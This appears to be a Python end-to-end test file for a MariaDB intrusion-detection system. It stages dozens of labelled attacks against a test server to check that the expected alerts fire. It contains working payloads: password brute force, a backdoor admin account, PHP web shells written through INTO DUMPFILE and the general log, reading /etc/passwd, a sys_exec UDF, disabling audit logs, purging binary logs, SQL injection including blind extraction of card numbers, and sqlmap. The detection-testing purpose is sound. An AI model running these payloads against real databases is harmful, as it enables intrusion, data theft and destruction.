"""The attacks: each uses a real client, is bounded in number and time, and lists the expected alerts."""

import re
import subprocess
import sys
import time
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass
from datetime import timedelta

import pymysql

from e2e.attack_day import company
from e2e.attack_day.company import (
    ANNA,
    BEN,
    BILLING,
    CLEO,
    DAN,
    EVE,
    REPLICA,
    REPORT,
    ROOT,
    SHOP,
    Account,
    Company,
)
from e2e.attack_day.mariadb import PORT, Server
from e2e.attack_day.network import SERVER, as_host

STRANGERS = tuple(f"203.0.113.{number}" for number in range(60, 72))
NEW_HOST = "10.20.8.99"
SQLMAP_SECONDS = 600


@dataclass(frozen=True)
class Attack:
    """One attack.

    It counts as detected if one of `rules`, names of rules and detectors, fires and concerns no other user or
    host than those of `who`.
    """

    name: str
    technique: str
    rules: tuple[str, ...]
    who: tuple[str, ...]
    act: Callable[[Company], None]
    hour: int | None = None
    """The required hour of the day; None: any."""


ATTACKS: list[Attack] = []


def attack(technique: str, rules: str, who: str, hour: int | None = None):
    """Registers a function as the attack of this name."""

    def register(act: Callable[[Company], None]) -> Callable[[Company], None]:
        ATTACKS.append(Attack(act.__name__, technique, tuple(rules.split()), tuple(who.split()), act, hour))
        return act

    return register


def _try_passwords(
    attacked: Company, account: Account, host: str, passwords: list[str], seconds: float = 1
) -> None:
    for password in passwords:
        with suppress(pymysql.err.OperationalError):
            attacked.connect(account, host, password=password).close()
        attacked.server.settle()
        attacked.server.clock.set(attacked.server.clock.now() + timedelta(seconds=seconds))


def _words(account: Account, attacked: Company, *more: str) -> list[str]:
    """Returns arguments of the command-line clients."""
    return ["-h", SERVER, "-u", account.user, f"-p{account.password(attacked.seed)}", *more]


def _mariadb(attacked: Company, account: Account, host: str, statements: str, *more: str) -> str:
    """Runs statements in the command-line client, which continues after errors."""
    with as_host(host):
        return attacked.server.client(_words(account, attacked, "--force", *more), feed=statements).stdout


@attack("T1110.001", "brute_force", "billing 203.0.113.60")
def brute_force(attacked: Company) -> None:
    _try_passwords(attacked, BILLING, STRANGERS[0], [f"password{number}" for number in range(30)])


@attack("T1110.003", "password_spraying", "203.0.113.61")
def password_spraying(attacked: Company) -> None:
    for account in company.ACCOUNTS:
        _try_passwords(attacked, account, STRANGERS[1], ["Autumn2026!"])


@attack("T1110.001", "distributed_guessing brute_force", "anna")
def distributed_guessing(attacked: Company) -> None:
    for host in STRANGERS[2:10]:
        _try_passwords(attacked, ANNA, host, ["anna1", "anna2"], seconds=4)


@attack("T1110.001", "login_after_brute_force", "dan 203.0.113.70")
def guessed_password(attacked: Company) -> None:
    guesses = [f"dan{number}" for number in range(2010, 2024)]
    _try_passwords(attacked, DAN, STRANGERS[10], [*guesses, DAN.weak_password])


@attack("T1078.001", "root_login_from_outside login_from_public_address", "root 203.0.113.71")
def root_from_outside(attacked: Company) -> None:
    _mariadb(attacked, ROOT, STRANGERS[11], "SELECT CURRENT_USER(); SHOW GRANTS;")


@attack("T1110.001", "refused_root_login brute_force few_refused_logins", "root")
def root_guessed(attacked: Company) -> None:
    _try_passwords(attacked, ROOT, "10.20.8.32", ["root", "toor", "mysql"])


@attack("T1136.001", "new_administrator grant_all", "ben")
def back_door_account(attacked: Company) -> None:
    attacked.run(
        BEN,
        [
            "CREATE USER support IDENTIFIED BY 'Sup-port-9431'",
            "GRANT ALL PRIVILEGES ON *.* TO support WITH GRANT OPTION",
        ],
    )


@attack("T1098", "grant_file", "ben")
def file_granted(attacked: Company) -> None:
    attacked.run(BEN, ["GRANT FILE ON *.* TO report"])


@attack("T1098", "grant_administration", "ben")
def super_granted(attacked: Company) -> None:
    attacked.run(BEN, ["GRANT SUPER ON *.* TO dan"])


@attack("T1098", "account_tables_written", "ben")
def accounts_written_directly(attacked: Company) -> None:
    attacked.run(
        BEN,
        [
            "INSERT INTO mysql.global_priv VALUES ('%', 'ghost', '{\"access\": 18446744073709551615}')",
            "FLUSH PRIVILEGES",
        ],
    )


@attack("T1003", "account_tables_read", "ben")
def password_hashes_read(attacked: Company) -> None:
    attacked.run(BEN, ["SELECT Host, User, Priv FROM mysql.global_priv"], database="mysql")


@attack("T1048", "into_outfile", "report")
def written_to_a_file(attacked: Company) -> None:
    target = attacked.server.directory / f"cards-{time.monotonic_ns()}.csv"
    attacked.run(REPORT, [f"SELECT * FROM customers INTO OUTFILE '{target}'"])


@attack("T1505.003", "into_outfile", "report")
def web_shell(attacked: Company) -> None:
    target = attacked.server.directory / f"shell-{time.monotonic_ns()}.php"
    attacked.run(REPORT, [f"SELECT '<?php system($_GET[0]); ?>' INTO DUMPFILE '{target}'"])


@attack("T1005", "load_file", "report")
def file_read(attacked: Company) -> None:
    attacked.run(REPORT, ["SELECT LOAD_FILE('/etc/passwd')"])


@attack("T1005", "load_data_local", "deploy")
def client_file_loaded(attacked: Company) -> None:
    file = attacked.server.directory / "loot.txt"
    file.write_text("1\n2\n")
    _mariadb(
        attacked,
        company.DEPLOY,
        company.DEPLOY.hosts[0],
        f"CREATE TABLE loot (line TEXT); LOAD DATA LOCAL INFILE '{file}' INTO TABLE loot; DROP TABLE loot;",
        "--local-infile=1",
        "shop",
    )


@attack("T1505.001", "library_function_created library_function_called", "ben")
def function_of_a_library(attacked: Company) -> None:
    attacked.run(
        BEN,
        ["CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'lib_mysqludf_sys.so'", "SELECT sys_exec('id')"],
    )


@attack("T1505.001", "plugin_installed", "ben")
def plugin_installed(attacked: Company) -> None:
    attacked.run(BEN, ["INSTALL SONAME 'query_response_time'"])


@attack("T1053", "event_created", "ben")
def event_that_stays(attacked: Company) -> None:
    attacked.run(BEN, ["CREATE EVENT shop.tidy ON SCHEDULE EVERY 1 DAY DO DELETE FROM shop.carts"])


@attack("T1546", "init_connect_changed", "ben")
def statement_of_every_login(attacked: Company) -> None:
    attacked.run(BEN, ["SET GLOBAL init_connect = 'INSERT INTO shop.carts VALUES (UUID(), USER())'"])
    attacked.run(BEN, ["SET GLOBAL init_connect = DEFAULT"])


@attack("T1562.008", "audit_log_switched_off", "ben")
def audit_log_off(attacked: Company) -> None:
    attacked.run(BEN, ["SET GLOBAL server_audit_logging = OFF", "SELECT COUNT(*) FROM hr.employees"])
    attacked.run(BEN, ["SET GLOBAL server_audit_logging = ON"])


@attack("T1562.008", "audit_log_reconfigured", "ben")
def audit_log_narrowed(attacked: Company) -> None:
    attacked.run(BEN, ["SET GLOBAL server_audit_excl_users = 'ben'"])
    attacked.run(BEN, ["SET GLOBAL server_audit_excl_users = ''"])


@attack("T1562.002", "slow_log_switched_off", "ben")
def slow_log_off(attacked: Company) -> None:
    attacked.run(BEN, ["SET GLOBAL slow_query_log = OFF"])
    attacked.run(BEN, ["SET GLOBAL slow_query_log = ON"])


@attack("T1505.003", "log_file_moved", "ben")
def log_moved_to_a_web_root(attacked: Company) -> None:
    target = attacked.server.directory / "general.php"
    attacked.run(
        BEN,
        [
            f"SET GLOBAL general_log_file = '{target}'",
            "SET GLOBAL general_log = ON",
            "SELECT '<?php system($_GET[0]); ?>'",
            "SET GLOBAL general_log = OFF",
        ],
    )


@attack("T1070", "all_binary_logs_removed", "ben")
def binary_log_purged(attacked: Company) -> None:
    attacked.run(BEN, ["FLUSH BINARY LOGS", "PURGE BINARY LOGS BEFORE NOW()"])


@attack("T1562", "binary_log_off_in_session", "ben")
def change_kept_from_replicas(attacked: Company) -> None:
    attacked.run(BEN, ["SET SESSION sql_log_bin = 0", "UPDATE shop.products SET price = 1 WHERE id = 7"])


@attack("T1087", "schema_enumeration catalogue_explored", "dan")
def schema_enumerated(attacked: Company) -> None:
    reads = [
        f"SELECT {columns} FROM information_schema.{table}"
        for table, columns in (
            ("schemata", "schema_name"),
            ("tables", "table_schema, table_name"),
            ("columns", "table_name, column_name"),
            ("user_privileges", "*"),
            ("routines", "routine_name"),
            ("views", "*"),
        )
    ]
    attacked.run(DAN, ["SHOW DATABASES", "SHOW TABLES", "SHOW GRANTS", *reads])


@attack("T1005", "dump_like_read sensitive_dumped", "shop 10.20.8.99")
def dumped_by_an_application(attacked: Company) -> None:
    with as_host(NEW_HOST):
        attacked.server.client(_words(SHOP, attacked, "--single-transaction", "shop"), program="mariadb-dump")


@attack("T1485", "delete_without_where", "billing shop")
def everything_deleted(attacked: Company) -> None:
    attacked.run(SHOP, ["DELETE FROM carts"])


@attack("T1565.001", "update_without_where", "shop")
def everything_changed(attacked: Company) -> None:
    attacked.run(SHOP, ["UPDATE products SET price = 0.01"])


@attack("T1485", "database_dropped ransom_note", "ben")
def ransom(attacked: Company) -> None:
    attacked.run(
        BEN,
        [
            "CREATE DATABASE archive",
            "CREATE TABLE archive.a (id INT)",
            "DROP DATABASE archive",
            "CREATE DATABASE README_TO_RECOVER",
            "CREATE TABLE README_TO_RECOVER.README (note TEXT)",
            "INSERT INTO README_TO_RECOVER.README VALUES ('Pay 0.01 BTC')",
        ],
    )


@attack("T1190", "tautology", "shop")
def injected_tautology(attacked: Company) -> None:
    attacked.run(SHOP, ["SELECT * FROM customers WHERE email = '' OR '1'='1' -- ' AND city = 'Graz'"])


@attack("T1190", "union_probing union_columns_differ", "shop")
def injected_union(attacked: Company) -> None:
    tries = [
        f"SELECT id, name, price FROM products WHERE id = -1 UNION SELECT {', '.join('1' * n)}"
        for n in range(1, 5)
    ]
    attacked.run(SHOP, tries)


@attack("T1190", "union_of_catalogue", "shop")
def injected_catalogue(attacked: Company) -> None:
    attacked.run(
        SHOP,
        [
            "SELECT id, name, price FROM products WHERE id = -1"
            " UNION ALL SELECT 1, CONCAT(table_name, 0x3a, column_name), 3 FROM information_schema.columns"
        ],
    )


@attack("T1190", "time_based", "shop")
def injected_waiting(attacked: Company) -> None:
    attacked.run(
        SHOP, ["SELECT * FROM products WHERE id = 1 AND IF(SUBSTRING(DATABASE(), 1, 1) = 's', SLEEP(0.2), 0)"]
    )


@attack("T1190", "stacked_statements refused_definition", "shop")
def injected_second_statement(attacked: Company) -> None:
    with as_host(SHOP.hosts[0]):
        connection = pymysql.connect(
            host=SERVER,
            port=PORT,
            user=SHOP.user,
            password=SHOP.password(attacked.seed),
            database="shop",
            client_flag=pymysql.constants.CLIENT.MULTI_STATEMENTS,
        )
    with connection, suppress(pymysql.err.Error):
        cursor = connection.cursor()
        cursor.execute("SELECT name FROM products WHERE id = 1; DROP TABLE IF EXISTS audit_trail; -- ")
        while cursor.nextset():
            pass


@attack("T1190", "comment_tricks", "shop")
def injected_comments(attacked: Company) -> None:
    attacked.run(
        SHOP, ["SELECT/**/id,name,price/**/FROM/**/products/**/WHERE/**/id=-1/**/UNION/**/SELECT/**/1,2,3"]
    )


@attack("T1190", "error_based xpath_error floor_rand", "shop")
def injected_error(attacked: Company) -> None:
    attacked.run(
        SHOP, ["SELECT * FROM products WHERE id = 1 AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT VERSION())))"]
    )


@attack("T1190", "blind_extraction", "shop")
def injected_letter_by_letter(attacked: Company) -> None:
    attacked.run(
        SHOP,
        [
            "SELECT * FROM products WHERE id = 1"
            f" AND ASCII(SUBSTRING((SELECT card_number FROM cards LIMIT 1), {n}, 1)) > {c}"
            for n in range(1, 8)
            for c in (48, 52, 56)
        ],
    )


@attack("T1190", "schema_enumeration catalogue_explored environment_probing", "cleo 10.20.8.99")
def sqlmap(attacked: Company) -> None:
    address = f"mysql://{CLEO.user}:{CLEO.password(attacked.seed)}@{SERVER}:{PORT}/shop"
    command = [
        sys.executable,
        "-m",
        "sqlmap.sqlmap",
        "-d",
        address,
        "--batch",
        "--disable-coloring",
        "--banner",
        "--current-user",
    ]
    home = {"HOME": str(attacked.server.directory), "PATH": "/usr/bin:/bin"}
    with as_host(NEW_HOST), suppress(subprocess.TimeoutExpired):
        done = subprocess.run(
            [*command, "--dbs", "--tables", "-D", "shop", "--columns", "--privileges", "--flush-session"],
            env=home,
            capture_output=True,
            text=True,
            timeout=SQLMAP_SECONDS,
        )
        (attacked.server.directory / "sqlmap.out").write_text(done.stdout + done.stderr)
        if not re.search(r"back-end DBMS|banner", done.stdout):
            raise RuntimeError(f"sqlmap did not reach the server: {done.stdout[-500:]}{done.stderr[-500:]}")


@attack("T1548", "definer_is_another", "deploy ben")
def another_definer(attacked: Company) -> None:
    attacked.run(
        BEN, ["CREATE DEFINER = root@localhost PROCEDURE shop.helper() SQL SECURITY DEFINER SELECT USER()"]
    )


@attack("T1078", "replication_user_interactive", "replica")
def replication_account_used(attacked: Company) -> None:
    attacked.run(REPLICA, ["SELECT @@version", "SHOW DATABASES", "SELECT * FROM shop.cards"], database="")


@attack("T1136", "short_lived_account", "ben")
def account_for_a_moment(attacked: Company) -> None:
    attacked.run(
        BEN,
        [
            "CREATE USER moment IDENTIFIED BY 'm0-ment-7'",
            "GRANT SELECT ON shop.* TO moment",
            "DROP USER moment",
        ],
    )


@attack("T1565", "log_forging", "shop")
def forged_log(attacked: Company) -> None:
    attacked.run(
        SHOP,
        [
            "SELECT 'x\n# Time: 260101  0:00:00\n# User@Host: ben[ben] @ localhost []\n"
            "# Query_time: 1.0  Lock_time: 0.0  Rows_sent: 1  Rows_examined: 1\n"
            "SET timestamp=1767225600;\nDROP DATABASE hr;\n'"
        ],
    )


@attack("T1078", "off_hours", "anna", hour=3)
def administrator_at_night(attacked: Company) -> None:
    attacked.run(ANNA, ["SHOW DATABASES", "SELECT COUNT(*) FROM hr.employees"])


@attack("T1078", "dormant_account", "eve")
def dormant_account(attacked: Company) -> None:
    attacked.run(EVE, ["SELECT COUNT(*) FROM customers"])


@attack("T1078", "first_seen_host", "billing 10.20.8.99")
def stolen_password(attacked: Company) -> None:
    attacked.run(BILLING, ["SELECT COUNT(*) FROM orders"], host=NEW_HOST)


@attack("T1530", "first_seen_table", "dan")
def curious_analyst(attacked: Company) -> None:
    attacked.run(DAN, ["SELECT card_number FROM cards WHERE customer_id = 17"])


@attack("T1530", "volume_rows", "report")
def slow_export(attacked: Company) -> None:
    for start in range(1, company.ORDERS, company.ORDERS // 20):
        orders = f"o.id BETWEEN {start} AND {start + company.ORDERS // 20 - 1}"
        for _ in range(5):
            attacked.run(
                REPORT, [f"SELECT * FROM customers c JOIN orders o ON o.customer_id = c.id WHERE {orders}"]
            )
        attacked.server.settle()
        attacked.server.clock.set(attacked.server.clock.now() + timedelta(seconds=60))


@attack("T1562", "started_without_grants audit_log_ended server_shut_down", "ben nobody 10.20.8.99")
def restarted_without_accounts(attacked: Company) -> None:
    server: Server = attacked.server
    attacked.run(BEN, ["SHUTDOWN"])
    server.wait()
    server.start("--skip-grant-tables", "--server-audit-logging=OFF")
    with as_host(NEW_HOST):
        server.client(["-h", SERVER, "-u", "nobody"], feed="SELECT COUNT(*) FROM shop.cards;")
    server.stop()
    server.start()
